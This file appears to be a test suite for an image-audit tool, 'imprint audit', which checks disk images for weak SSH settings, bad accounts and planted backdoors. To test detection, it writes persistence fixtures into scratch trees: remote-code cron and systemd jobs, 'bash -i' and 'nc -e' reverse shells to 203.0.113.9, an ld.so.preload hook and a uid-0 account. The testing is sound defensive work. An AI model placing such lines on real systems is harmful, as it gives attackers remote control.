import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { appendFile, chmod, chown, lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, stat, symlink, utimes, writeFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { promisify } from 'node:util';
import { auditCommand } from '../../agent/commands/audit.js';
import { sealCommand } from '../../agent/commands/seal.js';
import { CHECKS } from '../../agent/audit/registry.js';
import { SEVERITIES, severityRank, type AuditReport, type Finding, type Severity } from '../../agent/audit/types.js';
import { run } from '../../agent/os/exec.js';
import { parseXml, validateSchema, type XmlElement } from '../support/audit-formats.js';
import { imprint } from '../support/cli.js';
import { debianRootfsTarball, removeTree, unpackRootfs } from '../support/debian-rootfs.js';
import { plantImage } from '../support/planted-image.js';
import { FAST_KEYS_CONFIG, removeScratch, scratchImage, treeDigest, writeConfig } from '../support/tree.js';

// `imprint audit --root` on scratch trees with the real sshd -T (in a sandbox over the tree's
// /etc/ssh), shadow-utils and the system's crypt: the demo image as shipped, a clean tree (booted
// by the bundled `imprint boot --root`), the same tree with problems planted one by one, the seal
// engineer's planted image before and after seal + boot, and the command line itself.

const exec = promisify(execFile);
const SCHEMA = JSON.parse(await readFile(new URL('../../packaging/schema/audit-report.schema.json', import.meta.url), 'utf8')) as Record<string, never>;
const INSTANCE = 'i-0123456789abcdef0';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

async function audit(args: string[]): Promise<Run> {
  const out = new PassThrough();
  const err = new PassThrough();
  const chunks: { out: Buffer[]; err: Buffer[] } = { out: [], err: [] };
  out.on('data', (d: Buffer) => chunks.out.push(d));
  err.on('data', (d: Buffer) => chunks.err.push(d));
  const code = await auditCommand(args, { out, err });
  return { code, stdout: Buffer.concat(chunks.out).toString('utf8'), stderr: Buffer.concat(chunks.err).toString('utf8') };
}

/** `audit --root DIR --json`; the report is validated against the published schema every time. */
async function report(root: string, extra: string[] = []): Promise<AuditReport & { run: Run }> {
  const run = await audit(['--root', root, '--json', ...extra]);
  const parsed = JSON.parse(run.stdout) as AuditReport;
  assert.deepEqual(validateSchema(SCHEMA, parsed), [], 'the --json report validates against the schema');
  assert.equal(run.code, parsed.exitCode);
  return { ...parsed, run };
}

type Flat = Finding & { check: string };

function flat(r: AuditReport, min: Severity = 'info'): Flat[] {
  return r.checks.flatMap((c) => c.findings.filter((f) => severityRank(f.severity) >= severityRank(min)).map((f) => ({ ...f, check: c.id })));
}

const key = (f: { check: string; severity: string; evidence: { path: string; line: number | null } }): string =>
  `${f.check} ${f.severity} ${f.evidence.path}${f.evidence.line === null ? '' : `:${f.evidence.line}`}`;

function checkOf(r: AuditReport, id: string) {
  const c = r.checks.find((x) => x.id === id);
  assert.ok(c, id);
  return c;
}

async function put(root: string, file: string, text: string, mode = 0o644, uid = 0, gid = 0): Promise<void> {
  const host = path.join(root, file);
  await mkdir(path.dirname(host), { recursive: true });
  await writeFile(host, text);
  await chmod(host, mode);
  await chown(host, uid, gid);
}

async function lineOf(root: string, file: string, text: string): Promise<number> {
  const lines = (await readFile(path.join(root, file), 'utf8')).split('\n');
  const i = lines.findIndex((l) => l.startsWith(text));
  assert.ok(i >= 0, `${text} in ${file}`);
  return i + 1;
}

async function publicKey(comment: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'imprint-audit-key-'));
  try {
    await exec('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', comment, '-f', path.join(dir, 'k')]);
    return (await readFile(path.join(dir, 'k.pub'), 'utf8')).trim();
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

/** A scratch image run through the bundled `imprint boot --root`: fresh keys, passwords locked, sshd keys-only. */
async function bootedImage(): Promise<string> {
  const root = await scratchImage();
  await writeConfig(root, FAST_KEYS_CONFIG);
  const run = await imprint(['boot', '--root', root]);
  assert.equal(run.code, 0, run.stderr);
  return root;
}

describe('imprint audit --root', function () {
  this.timeout(120_000);
  const roots: string[] = [];
  const scratch = async (make: () => Promise<string>): Promise<string> => {
    const r = await make();
    roots.push(r);
    return r;
  };
  afterEach(async () => {
    for (const r of roots.splice(0)) await removeScratch(r);
  });

  it('the demo image as shipped: password logins, usable passwords, host keys shipped in it', async () => {
    const root = await scratch(scratchImage);
    const r = await report(root);
    assert.deepEqual(flat(r, 'medium').map(key).sort(), [
      'accounts.usable-passwords high /etc/shadow:1',
      'accounts.usable-passwords high /etc/shadow:6',
      'leftovers medium /etc/ssh/ssh_host_ecdsa_key',
      'leftovers medium /etc/ssh/ssh_host_ed25519_key',
      'leftovers medium /etc/ssh/ssh_host_rsa_key',
      'sshd.password-authentication high /etc/ssh/sshd_config.d/50-cloud-init.conf:1',
    ]);
    assert.equal(flat(r).find((f) => f.check === 'sshd.password-authentication')?.evidence.value, 'PasswordAuthentication yes');
    assert.equal(r.exitCode, 1);
    assert.equal(r.live, false);
    assert.equal(checkOf(r, 'services.listening').status, 'skipped');
    assert.equal(checkOf(r, 'accounts.default-passwords').status, 'ok', '"imagepass" is on no default list');
    assert.equal((await audit(['--root', root, '--fail-on', 'critical'])).code, 0);
    assert.equal((await audit(['--root', root, '--fail-on', 'medium'])).code, 1);
  });

  it('a clean tree (booted by imprint boot --root, passwords locked): nothing at or above medium, and what legitimately remains', async () => {
    const root = await scratch(bootedImage);
    const before = await treeDigest(root);
    const r = await report(root);
    assert.deepEqual(r.checks.filter((c) => c.status === 'error').map((c) => `${c.id}: ${c.detail}`), []);
    assert.deepEqual(flat(r, 'medium'), []);
    // What a clean offline tree still reports, on purpose:
    //  - no firewall ruleset for IPv4 nor IPv6 (the demo image has none; cloud security groups filter);
    //  - the booted tree's machine-id and imprint's own state: an image shared like this gives every
    //    instance the same machine-id (seal empties it), and carries the state of the machine it booted on.
    assert.deepEqual(flat(r, 'low').map(key).sort(), [
      'firewall.ruleset low /etc/nftables.conf',
      'firewall.ruleset low /etc/nftables.conf',
      'leftovers low /etc/machine-id',
      'leftovers low /var/lib/imprint',
    ]);
    const auth = flat(r).find((f) => f.check === 'sshd.authentication');
    assert.equal(auth?.facts?.keysOnly, true);
    assert.equal(auth?.message, 'sshd accepts public keys only');
    assert.ok(flat(r).filter((f) => f.check === 'hostkeys.baked').every((f) => f.facts?.baked === false), 'keys made by boot for this tree');
    assert.equal((await audit(['--root', root, '--fail-on', 'medium'])).code, 0);
    assert.equal((await audit(['--root', root, '--fail-on', 'low'])).code, 1);
    assert.equal(await treeDigest(root), before, 'audit changed nothing in the tree');
  });

  it('one finding per planted problem, with the right check id, severity and evidence', async () => {
    const root = await scratch(bootedImage);
    // The instance as the network phase leaves it: an instance id in the state, the launch key in
    // imprint's block of debian's authorized_keys. This is part of the clean baseline.
    const stateFile = path.join(root, 'var/lib/imprint/state.json');
    const state = JSON.parse(await readFile(stateFile, 'utf8')) as { instanceId: string | null };
    state.instanceId = INSTANCE;
    await writeFile(stateFile, JSON.stringify(state));
    const launch = await publicKey('launch');
    await mkdir(path.join(root, 'home/debian/.ssh'), { recursive: true, mode: 0o700 });
    await chown(path.join(root, 'home/debian/.ssh'), 1000, 1000);
    await put(root, '/home/debian/.ssh/authorized_keys', `# imprint: launch keys for instance ${INSTANCE} (managed; edits here are replaced)\n${launch}\n# imprint: end\n`, 0o600, 1000, 1000);
    const baseline = await report(root);
    assert.deepEqual(flat(baseline, 'medium'), []);
    assert.equal(checkOf(baseline, 'ssh.extra-authorized-keys').status, 'ok');
    assert.equal(flat(baseline).filter((f) => f.check === 'ssh.authorized-keys').length, 1);

    const expected: string[] = [];
    const expect = (check: string, severity: Severity, file: string, line: number | null): void => {
      expected.push(key({ check, severity, evidence: { path: file, line } }));
    };

    // sshd: a drop-in read before imprint's 00-imprint.conf, and a Match block.
    await put(root, '/etc/ssh/sshd_config.d/0-planted.conf', 'PasswordAuthentication yes\nPermitEmptyPasswords yes\n');
    expect('sshd.password-authentication', 'high', '/etc/ssh/sshd_config.d/0-planted.conf', 1);
    expect('sshd.permit-empty-passwords', 'critical', '/etc/ssh/sshd_config.d/0-planted.conf', 2);
    await appendFile(path.join(root, 'etc/ssh/sshd_config'), 'Match User debian\n    KbdInteractiveAuthentication yes\n');
    expect('sshd.kbd-interactive-authentication', 'high', '/etc/ssh/sshd_config', await lineOf(root, '/etc/ssh/sshd_config', '    KbdInteractiveAuthentication yes'));
    // An extra key after imprint's block.
    await appendFile(path.join(root, 'home/debian/.ssh/authorized_keys'), `${await publicKey('someone@elsewhere')}\n`);
    expect('ssh.extra-authorized-keys', 'high', '/home/debian/.ssh/authorized_keys', 4);
    // Accounts: a second uid 0, a default password (yescrypt, by chpasswd), an empty password.
    await appendFile(path.join(root, 'etc/passwd'), 'toor:x:0:0::/root:/bin/bash\npi:x:1001:1001::/home/pi:/bin/bash\nguest:x:1002:1002::/home/guest:/bin/bash\n');
    await appendFile(path.join(root, 'etc/shadow'), 'toor:*:19700:0:99999:7:::\npi:*:19700:0:99999:7:::\nguest::19700:0:99999:7:::\n');
    await appendFile(path.join(root, 'etc/group'), 'pi:x:1001:\nguest:x:1002:\n');
    await run('chpasswd', ['-c', 'YESCRYPT', '--root', root], { input: 'pi:raspberry\n' });
    expect('accounts.uid0', 'critical', '/etc/passwd', await lineOf(root, '/etc/passwd', 'toor:'));
    expect('accounts.default-passwords', 'critical', '/etc/shadow', await lineOf(root, '/etc/shadow', 'pi:'));
    expect('accounts.empty-passwords', 'critical', '/etc/shadow', await lineOf(root, '/etc/shadow', 'guest:'));
    // Services: a unit defined in /etc by the image's builder, and a clear-text service.
    await put(root, '/etc/systemd/system/backdoor.service', '[Unit]\nDescription=updates\n[Service]\nExecStart=/usr/local/bin/updater --daemon\n[Install]\nWantedBy=multi-user.target\n');
    await mkdir(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
    await symlink('/etc/systemd/system/backdoor.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/backdoor.service'));
    expect('services.enabled', 'low', '/etc/systemd/system/multi-user.target.wants/backdoor.service', null);
    await put(root, '/lib/systemd/system/vsftpd.service', '[Service]\nExecStart=/usr/sbin/vsftpd /etc/vsftpd.conf\n');
    await symlink('/lib/systemd/system/vsftpd.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/vsftpd.service'));
    expect('services.enabled', 'medium', '/etc/systemd/system/multi-user.target.wants/vsftpd.service', null);
    // Cron: a system job that runs remote code, a user crontab, a timer whose service runs remote code.
    await put(root, '/etc/cron.d/updater', 'SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.9/u.sh | sh\n');
    expect('cron.remote-exec', 'high', '/etc/cron.d/updater', 2);
    await put(root, '/var/spool/cron/crontabs/debian', '@reboot /home/debian/run.sh\n', 0o600, 1000, 0);
    expect('cron.jobs', 'low', '/var/spool/cron/crontabs/debian', 1);
    await put(root, '/etc/systemd/system/sync.timer', '[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n');
    await put(root, '/etc/systemd/system/sync.service', '[Service]\nExecStart=/bin/bash -c "wget -qO- http://203.0.113.9/s | bash"\n');
    await mkdir(path.join(root, 'etc/systemd/system/timers.target.wants'), { recursive: true });
    await symlink('/etc/systemd/system/sync.timer', path.join(root, 'etc/systemd/system/timers.target.wants/sync.timer'));
    expect('cron.remote-exec', 'high', '/etc/systemd/system/sync.service', 2);
    // Start-up files and boot scripts.
    await put(root, '/etc/profile.d/zz-planted.sh', '# keep the image fresh\nwget -qO- http://203.0.113.9/p | bash\n');
    expect('startup.remote-exec', 'high', '/etc/profile.d/zz-planted.sh', 2);
    await put(root, '/home/debian/.bashrc', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n', 0o644, 1000, 1000);
    expect('startup.remote-exec', 'high', '/home/debian/.bashrc', 1);
    await put(root, '/etc/rc.local', '#!/bin/sh -e\necho ZWNobyBoaQ== | base64 -d | sh\nexit 0\n', 0o755);
    expect('startup.remote-exec', 'high', '/etc/rc.local', 2);
    await put(root, '/root/.profile', 'nc -e /bin/sh 203.0.113.9 4444\n');
    expect('startup.remote-exec', 'high', '/root/.profile', 1);
    await put(root, '/etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libhide.so\n');
    expect('startup.ld-preload', 'high', '/etc/ld.so.preload', 1);
    // Logging.
    await put(root, '/etc/rsyslog.d/90-forward.conf', '*.* @@logs.example.net:514\n');
    expect('logging.remote-forwarding', 'medium', '/etc/rsyslog.d/90-forward.conf', 1);
    await put(root, '/etc/systemd/journal-upload.conf', '[Upload]\nURL=https://collector.example.net:19532\n');
    expect('logging.remote-forwarding', 'medium', '/etc/systemd/journal-upload.conf', 2);
    // Host keys: DSA, RSA 1024, and a key older than imprint's run for this instance.
    await exec('ssh-keygen', ['-q', '-t', 'dsa', '-N', '', '-f', path.join(root, 'etc/ssh/ssh_host_dsa_key')]);
    expect('hostkeys.weak', 'medium', '/etc/ssh/ssh_host_dsa_key.pub', null);
    await exec('ssh-keygen', ['-q', '-t', 'rsa', '-b', '1024', '-N', '', '-f', path.join(root, 'etc/ssh/ssh_host_small_rsa_key')]);
    expect('hostkeys.weak', 'medium', '/etc/ssh/ssh_host_small_rsa_key.pub', null);
    const old = new Date(Date.now() - 2 * 24 * 3600 * 1000);
    await utimes(path.join(root, 'etc/ssh/ssh_host_ed25519_key.pub'), old, old);
    expect('hostkeys.baked', 'high', '/etc/ssh/ssh_host_ed25519_key.pub', null);
    // Leftovers: credentials, a history, a private key (its .pub is only info).
    await put(root, '/root/.aws/credentials', '[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n', 0o600);
    expect('leftovers', 'high', '/root/.aws', null);
    await put(root, '/home/debian/.bash_history', 'mysql -phunter2\n', 0o600, 1000, 1000);
    expect('leftovers', 'medium', '/home/debian/.bash_history', null);
    await exec('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', path.join(root, 'home/debian/.ssh/id_ed25519')]);
    expect('leftovers', 'high', '/home/debian/.ssh/id_ed25519', null);
    // Firewall: IPv4 rules, loaded at boot, and nothing for IPv6.
    await put(root, '/etc/iptables/rules.v4', '*filter\n:INPUT DROP [0:0]\n-A INPUT -p tcp --dport 22 -j ACCEPT\nCOMMIT\n');
    await symlink('/lib/systemd/system/netfilter-persistent.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/netfilter-persistent.service'));
    expect('firewall.ruleset', 'medium', '/etc/nftables.conf', null);

    const after = await report(root);
    assert.deepEqual(after.checks.filter((c) => c.status === 'error').map((c) => `${c.id}: ${c.detail}`), []);
    const known = new Set(flat(baseline, 'low').map(key));
    const fresh = flat(after, 'low').map(key).filter((k) => !known.has(k));
    assert.deepEqual(fresh.sort(), expected.sort());
    assert.equal(after.exitCode, 1);

    // Evidence values say what was seen, without secrets.
    const value = (check: string, file: string) => flat(after).find((f) => f.check === check && f.evidence.path === file)?.evidence.value;
    assert.equal(value('cron.remote-exec', '/etc/cron.d/updater'), 'curl -fsSL http://203.0.113.9/u.sh | sh');
    assert.equal(value('logging.remote-forwarding', '/etc/rsyslog.d/90-forward.conf'), '*.* @@logs.example.net:514');
    assert.equal(value('accounts.default-passwords', '/etc/shadow'), 'pi: yescrypt password matches a default on imprint\'s list');
    assert.match(value('hostkeys.weak', '/etc/ssh/ssh_host_small_rsa_key.pub') ?? '', /^RSA 1024 SHA256:/);
    const out = JSON.stringify(after);
    assert.doesNotMatch(out, /raspberry|hunter2|wJalrXUtnFEMI|\$y\$/, 'no password, hash or credential in the report');
    assert.equal(flat(after).filter((f) => f.check === 'ssh.authorized-keys').length, 2, 'both keys are listed with fingerprints');
  });

  it('the planted image: every leftover it plants is flagged, no look-alike is, and nothing is printed that is secret', async () => {
    const root = await scratch(scratchImage);
    const planted = await plantImage(root);
    const before = await treeDigest(root);
    const r = await report(root);
    const all = flat(r);
    for (const item of planted.items) {
      const hit = item.account
        ? all.some((f) => f.check.startsWith('accounts.') && f.facts?.user === item.account && severityRank(f.severity) >= severityRank('high'))
        : all.some((f) => f.evidence.path === item.path && severityRank(f.severity) >= severityRank(item.path.endsWith('.pub') ? 'info' : 'low'));
      assert.ok(hit, `${item.operation}: ${item.what} (${item.account ?? item.path}) is not flagged`);
    }
    for (const p of planted.lookalikes) assert.ok(!all.some((f) => f.evidence.path === p && f.severity !== 'info'), `look-alike ${p} is flagged`);
    // The planted state names the build instance, so a key sshd can read in authorized_keys is an
    // extra key (high); a file with a line sshd cannot read (the planted keys are random bytes) is
    // reported by leftovers instead (medium). Either way, each file is flagged at medium or above.
    for (const file of ['/home/builder/.ssh/authorized_keys2', '/home/debian/.ssh/authorized_keys', '/root/.ssh/authorized_keys']) {
      const on = all.filter((f) => f.evidence.path === file).map((f) => `${f.check} ${f.severity}`);
      assert.ok(on.includes('ssh.extra-authorized-keys high') || on.includes('leftovers medium'), `${file}: ${on.join(', ')}`);
    }
    // Secrets: no hash from the shadow file, no key material, no planted secret.
    const table = (await audit(['--root', root, '--verbose'])).stdout;
    const shadow = (await readFile(path.join(root, 'etc/shadow'), 'utf8')).split('\n').map((l) => l.split(':')[1] ?? '').filter((h) => h.startsWith('$'));
    assert.ok(shadow.length >= 2);
    const keyLines: string[] = [];
    for (const file of ['/home/debian/.ssh/id_ed25519', '/home/debian/project/deploy.key', '/root/backup.pem', '/tmp/build/server.key', '/mnt/bundle/pk-ABCDEF1234.pem']) {
      keyLines.push(...(await readFile(path.join(root, file), 'utf8')).split('\n').filter((l) => /^[A-Za-z0-9+/=]{40,}$/.test(l)));
    }
    assert.ok(keyLines.length >= 5);
    for (const text of [table, r.run.stdout]) {
      for (const h of shadow) assert.ok(!text.includes(h.slice(3, 20)), 'a password hash was printed');
      for (const l of keyLines) assert.ok(!text.includes(l.slice(0, 24)), 'private key material was printed');
      assert.doesNotMatch(text, /PRIVATE KEY-----(?:\n|\\n)|hunter2|wJalrXUtnFEMI|AKIAIOSFODNN7EXAMPLE|ZGViaWFuOmh1bnRlcjI|ghp_0123456789/);
    }
    assert.equal(await treeDigest(root), before, 'audit changed nothing in the tree');
  });

  it('the planted image after imprint seal and imprint boot: nothing at or above medium', async () => {
    const root = await scratch(scratchImage);
    await plantImage(root);
    const sink = new PassThrough();
    sink.resume();
    assert.equal(await sealCommand(['--root', root], { out: sink, err: sink }), 0);
    const sealed = await report(root);
    // Sealed, not booted: sshd -T needs a host key; audit brings a throwaway one and says so.
    assert.equal(flat(sealed).find((f) => f.check === 'sshd.authentication')?.facts?.source, 'sshd -T (throwaway host key)');
    assert.deepEqual(flat(sealed).filter((f) => f.check === 'hostkeys.missing').map((f) => `${f.severity} ${f.evidence.path}`).sort(),
      ['info /etc/ssh/ssh_host_ecdsa_key', 'info /etc/ssh/ssh_host_ed25519_key', 'info /etc/ssh/ssh_host_rsa_key']);
    // The first boot of a sealed image: systemd makes a new machine-id (seal emptied it), then imprint runs.
    await writeFile(path.join(root, 'etc/machine-id'), `${randomBytes(16).toString('hex')}\n`);
    await writeConfig(root, FAST_KEYS_CONFIG);
    const boot = await imprint(['boot', '--root', root]);
    assert.equal(boot.code, 0, boot.stderr);
    const r = await report(root);
    assert.deepEqual(r.checks.filter((c) => c.status === 'error').map((c) => `${c.id}: ${c.detail}`), []);
    assert.deepEqual(flat(r, 'medium').map(key), []);
    // Left on purpose by seal's defaults (cron-spool and mail-spool are opt-in), and the firewall.
    assert.deepEqual(flat(r, 'low').map(key).sort(), [
      'cron.jobs low /var/spool/cron/crontabs/debian:1',
      'firewall.ruleset low /etc/nftables.conf',
      'firewall.ruleset low /etc/nftables.conf',
      'leftovers low /etc/machine-id',
      'leftovers low /var/lib/imprint',
      'leftovers low /var/mail/debian',
    ]);
  });

  it('reads through links only inside the tree, never the host\'s files', async () => {
    const root = await scratch(bootedImage);
    const host = await mkdtemp(path.join(tmpdir(), 'imprint-audit-host-'));
    try {
      await writeFile(path.join(host, 'evil.sh'), 'curl -s http://203.0.113.9/x | sh\n');
      await mkdir(path.join(root, 'etc/profile.d'), { recursive: true });
      await symlink(path.join(host, 'evil.sh'), path.join(root, 'etc/profile.d/host.sh'));
      await put(root, '/opt/real.sh', '#!/bin/sh\nwget -qO- http://203.0.113.9/y | sh\n', 0o755);
      await symlink('/opt/real.sh', path.join(root, 'etc/rc.local'));
      const r = await report(root);
      assert.deepEqual(flat(r).filter((f) => f.check === 'startup.remote-exec').map(key), ['startup.remote-exec high /etc/rc.local:2']);
    } finally {
      await rm(host, { recursive: true, force: true });
    }
  });
});

/** type, mode, owner, size, mtime and content digest of every entry (device nodes by type only). */
async function fullDigest(root: string): Promise<string> {
  const hash = createHash('sha256');
  const walk = async (dir: string): Promise<void> => {
    for (const name of (await readdir(dir)).sort()) {
      const full = path.join(dir, name);
      const info = await lstat(full);
      hash.update(`${path.relative(root, full)}\0${info.mode}:${info.uid}:${info.gid}:${info.size}:${info.mtimeMs}\0`);
      if (info.isDirectory()) await walk(full);
      else if (info.isSymbolicLink()) hash.update(await readlink(full));
      else if (info.isFile()) hash.update(await readFile(full));
    }
  };
  await walk(root);
  return hash.digest('hex');
}

describe('imprint audit --root on a real Debian 12 rootfs', function () {
  this.timeout(600_000);
  let root: string | null = null;

  before(async function () {
    const tarball = await debianRootfsTarball();
    if (tarball === null) {
      if (process.env.CI) throw new Error('CI must be able to build the Debian rootfs (mmdebstrap, root)');
      this.skip();
    }
    root = await unpackRootfs(tarball as string);
  });
  after(async () => {
    if (root) await removeTree(root);
  });

  it('the stock image: checked with the image\'s own sshd, read-only; after seal and a first boot, nothing at or above medium', async () => {
    const tree = root as string;
    const before = await fullDigest(tree);
    const stock = await report(tree);
    assert.equal(await fullDigest(tree), before, 'audit changed nothing in the image (not even /run/sshd)');
    assert.deepEqual(stock.checks.filter((c) => c.status === 'error').map((c) => `${c.id}: ${c.detail}`), []);
    const auth = flat(stock).find((f) => f.check === 'sshd.authentication');
    assert.equal(auth?.facts?.checkedWith, 'image-sshd', 'the image\'s own sshd answered');
    assert.deepEqual(flat(stock, 'high').map(key).sort(), [
      'accounts.usable-passwords high /etc/shadow:2',
      'accounts.usable-passwords high /etc/shadow:22',
      'sshd.password-authentication high /etc/ssh/sshd_config',
    ]);
    const enabled = flat(stock).filter((f) => f.check === 'services.enabled').map((f) => f.facts?.unit);
    assert.ok(enabled.includes('ssh.service'), enabled.join(', '));
    assert.ok(flat(stock).some((f) => f.check === 'cron.timers' && f.facts?.timer === 'apt-daily.timer'));
    assert.ok(flat(stock).some((f) => f.check === 'leftovers' && f.evidence.path === '/var/log/dpkg.log' && f.severity === 'low'));

    const sink = new PassThrough();
    sink.resume();
    assert.equal(await sealCommand(['--root', tree], { out: sink, err: sink }), 0);
    const sealed = await report(tree);
    assert.equal(flat(sealed).find((f) => f.check === 'sshd.authentication')?.facts?.source, 'sshd -T (throwaway host key)');
    assert.deepEqual(flat(sealed, 'medium').map(key).sort(), ['sshd.password-authentication high /etc/ssh/sshd_config'], 'seal does not change sshd; boot does');
    await writeFile(path.join(tree, 'etc/machine-id'), `${randomBytes(16).toString('hex')}\n`);
    const boot = await imprint(['boot', '--root', tree]);
    assert.equal(boot.code, 0, boot.stderr);
    const clean = await report(tree);
    assert.deepEqual(flat(clean, 'medium').map(key), []);
    assert.deepEqual(flat(clean, 'low').map(key).sort(), [
      'firewall.ruleset low /etc/nftables.conf',
      'firewall.ruleset low /etc/nftables.conf',
      'leftovers low /etc/machine-id',
      'leftovers low /var/lib/imprint',
    ]);
    assert.equal(clean.exitCode, 0);
  });
});

describe('imprint audit: the command line', function () {
  this.timeout(60_000);
  let root: string;
  before(async () => {
    root = await scratchImage();
  });
  after(async () => {
    await removeScratch(root);
  });

  it('--help lists every check and exits 0', async () => {
    const run = await audit(['--help']);
    assert.equal(run.code, 0);
    for (const c of CHECKS) assert.match(run.stdout, new RegExp(`^  ${c.id.replace(/\./g, '\\.')}\\s+${c.severity}\\s`, 'm'));
    for (const s of SEVERITIES) assert.match(run.stdout, new RegExp(`\\b${s}\\b`));
  });

  it('usage errors exit 2 with "imprint: ..." on stderr', async () => {
    const cases: [string[], RegExp][] = [
      [['--jsno'], /imprint: audit: Unknown option '--jsno'.*did you mean "--json"/],
      [['--fail-on', 'severe'], /--fail-on takes one of info, low, medium, high, critical, not "severe"/],
      [['--fail-on'], /imprint: audit: Option '--fail-on <value>' argument missing/],
      [['extra'], /unexpected argument "extra"/],
      [['--root', '/nonexistent/imprint-audit'], /--root \/nonexistent\/imprint-audit: not a directory/],
      [['--root', root, '--junit', '/nonexistent/dir/report.xml'], /its directory does not exist/],
      [['--root', ''], /--root needs a directory/],
    ];
    for (const [args, message] of cases) {
      const run = await audit(args);
      assert.equal(run.code, 2, args.join(' '));
      assert.match(run.stderr, message);
      assert.match(run.stderr, /^imprint: /);
      assert.equal(run.stdout, '');
    }
  });

  it('--junit writes a JUnit file: one testcase per check, failures at or above --fail-on', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'imprint-audit-junit-'));
    try {
      const file = path.join(dir, 'audit.xml');
      const run = await audit(['--root', root, '--junit', file, '--fail-on', 'medium']);
      assert.equal(run.code, 1);
      const doc = parseXml(await readFile(file, 'utf8'));
      const suite = doc.children.find((c) => c.name === 'testsuite') as XmlElement;
      const cases = suite.children.filter((c) => c.name === 'testcase');
      assert.deepEqual(cases.map((c) => c.attributes.name), CHECKS.map((c) => c.id));
      const failed = cases.filter((c) => c.children.some((x) => x.name === 'failure')).map((c) => c.attributes.name).sort();
      assert.deepEqual(failed, ['accounts.usable-passwords', 'leftovers', 'sshd.password-authentication']);
      assert.equal(suite.attributes.failures, '3');
      assert.equal(suite.attributes.skipped, '3');
      assert.ok(cases.every((c) => /^imprint\.audit\.[a-z]+$/.test(c.attributes.classname ?? '')));
      assert.equal((await stat(file)).mode & 0o777, 0o644);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('the table: grouped by severity with evidence, a PASS/FAIL line, --verbose adds every check and its guideline', async () => {
    const run = await audit(['--root', root]);
    assert.equal(run.code, 1);
    assert.match(run.stdout, /^HIGH \(3\)\n {2}sshd\.password-authentication +sshd accepts password logins/m);
    assert.match(run.stdout, /\/etc\/ssh\/sshd_config\.d\/50-cloud-init\.conf:1 {2}PasswordAuthentication yes/);
    assert.ok(run.stdout.indexOf('\nHIGH (') < run.stdout.indexOf('\nMEDIUM (') && run.stdout.indexOf('\nMEDIUM (') < run.stdout.indexOf('\nLOW ('));
    assert.match(run.stdout, /FAIL: 2 checks found high or worse/);
    const verbose = await audit(['--root', root, '--verbose']);
    assert.match(verbose.stdout, /from outscale-cleanup-public-omis\.txt: Remote access: Check that no extra SSH key is included/);
    const json = await audit(['--root', root, '--json', '--fail-on', 'critical']);
    assert.equal(json.code, 0);
    assert.equal((JSON.parse(json.stdout) as AuditReport).result, 'pass');
  });
});
